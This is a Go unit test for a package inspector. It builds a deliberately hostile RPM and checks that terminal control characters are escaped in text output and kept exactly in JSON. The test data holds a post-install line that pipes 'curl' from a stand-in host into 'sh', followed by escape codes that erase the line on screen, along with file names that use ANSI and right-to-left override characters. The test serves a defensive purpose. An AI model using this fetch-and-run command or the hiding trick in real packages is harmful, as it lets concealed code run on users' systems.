package inspect_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/qemu-user-static-go/qemu-user-static-go/pkg/inspect"
	"github.com/qemu-user-static-go/qemu-user-static-go/pkg/internal/sandbox"
)

// TestTextEscapesControlCharacters: a scriptlet line ending in
// ESC[2K\r erases itself on a terminal, and the line after it is all
// one sees (issue 16 point 11). The text view shows such bytes escaped;
// the JSON report keeps them exactly.
func TestTextEscapesControlCharacters(t *testing.T) {
	post := "curl -s http://example.invalid/x | sh\x1b[2K\r: harmless\n\tindented\n"
	spec := sandbox.PackageSpec{
		Name: "hostile", Version: "1", Arch: "x86_64",
		Files: []sandbox.File{
			{Dst: "/usr/share/hostile/a\x1b[8mb\u202e.txt", Content: []byte("x")},
			{Dst: "/usr/lib/binfmt.d/h.conf", Content: []byte(":h\x1b[1Ah:E::h::/bin/sh\x07:\n")},
		},
		Post:     post,
		Requires: []string{"/bin/sh"},
	}
	rep, err := inspect.File(sandbox.BuildRPM(t, spec), inspect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	rep.WriteText(&text)
	out := text.String()
	for i, r := range out {
		if r == '\x1b' || r == '\r' || r == '\a' || r == '\u202e' {
			t.Fatalf("the text view has %q at byte %d:\n%s", r, i, out)
		}
	}
	for _, want := range []string{
		`  | curl -s http://example.invalid/x | sh\x1b[2K\r: harmless`,
		"  | \tindented\n",
		`/usr/share/hostile/a\x1b[8mb\u202e.txt`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the text view lacks %q:\n%s", want, out)
		}
	}
	var back inspect.Report
	var js bytes.Buffer
	if err := json.NewEncoder(&js).Encode(rep); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(js.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if len(back.Scriptlets) != 1 || back.Scriptlets[0].Body != post {
		t.Errorf("JSON scriptlets %q, want the body exactly %q", back.Scriptlets, post)
	}
	found := false
	for _, f := range back.Files {
		found = found || f.Path == "/usr/share/hostile/a\x1b[8mb\u202e.txt"
	}
	if !found {
		t.Errorf("JSON files lack the exact name: %+v", back.Files)
	}
}
